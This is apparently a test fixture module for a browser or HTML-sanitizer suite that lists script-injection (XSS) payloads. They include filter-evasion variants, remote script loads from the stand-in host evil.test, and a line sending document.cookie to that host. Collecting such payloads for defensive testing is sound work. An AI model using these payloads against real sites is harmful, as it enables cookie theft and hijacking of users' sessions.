"""Scripts, in every place and spelling."""

from tests.browser.hostile.payloads.payload import Family, family, whole

SCRIPTS: Family = family(
    {
        "inline": "<script>RUN</script>",
        "from elsewhere": "<script src=//evil.test/x.js></script>",
        "as a module": "<script type=module src=//evil.test/x.mjs></script>",
        "that imports": "<script type=module>import '//evil.test/x.mjs'</script>",
        "import map": '<script type=importmap>{"imports":{"x":"//evil.test/x.js"}}</script>',
        "speculation rules": (
            '<script type=speculationrules>{"prefetch":[{"source":"list",'
            '"urls":["//evil.test/next"]}]}</script>'
        ),
        "mixed case and a slash": "<ScRiPt/x>RUN</sCrIpT/y>",
        "tag with a line break": "<script\n\n>RUN</script\n>",
        "tag with a form feed": "<script\x0csrc=//evil.test/x.js\x0c></script>",
        "never closed": "<script>RUN",
        "with an html comment": "<script><!--\nRUN\n--></script>",
        "double escaped": "<script><!--<script>RUN</script>--></script><script>RUN</script>",
        "split by itself": "<scr<script>ipt>RUN</scr</script>ipt>",
        "with a nonce of its own": "<script nonce=guess>RUN</script>",
        "with an empty nonce": "<script nonce>RUN</script>",
        "swallowing what follows": "<script src='//evil.test/?",
        "reading cookies": "<script>console.log('pwned', document.cookie)</script>",
        "sending cookies": "<script>new Image().src='//evil.test/?'+document.cookie</script>",
        "reaching the app": "<script>top.document.title='pwned';RUN</script>",
        "leading the app away": "<script>top.location='//evil.test/';RUN</script>",
        "registering a worker": "<script>navigator.serviceWorker.register('/x.js');RUN</script>",
        "in a select": "<select><option><script>RUN</script></select>",
        "in a table": "<table><tr><script>RUN</script><td>x</table>",
        "in a list of options": "<datalist><script>RUN</script><option></datalist>",
        "behind the page": "</body></html><script>RUN</script>",
    }
) | whole(
    {
        "before the page": "<script>RUN</script><!doctype html><p>KNOWN</p>",
        "in the head": "<!doctype html><head><script>RUN</script></head><body><p>KNOWN</p>",
        "under an xml prefix": (
            "<html xmlns:x='http://www.w3.org/1999/xhtml'><p>KNOWN</p><x:script>RUN</x:script>"
        ),
        "in xhtml cdata": (
            "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><p>KNOWN</p>"
            "<script>//<![CDATA[\nRUN\n//]]></script></body></html>"
        ),
    }
)
